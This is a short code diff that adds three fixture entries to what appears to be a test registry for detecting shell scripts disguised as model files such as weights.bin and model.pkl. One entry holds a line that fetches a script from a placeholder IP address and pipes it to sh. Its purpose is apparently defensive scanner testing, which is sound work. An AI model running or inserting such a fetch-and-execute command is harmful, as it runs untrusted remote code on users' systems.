@@ -149,3 +149,6 @@ _register(
         ),
     },
 )
+_register("Programs", "weights.bin", {"program.script_as_weights": (b"#!/bin/sh\necho stannary\n", True)})
+_register("Programs", "start", {"program.script": (b"#!/bin/sh\necho stannary\n", False)})
+_register("Programs", "model.pkl", {"program.script_fetches": (b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n", True)})
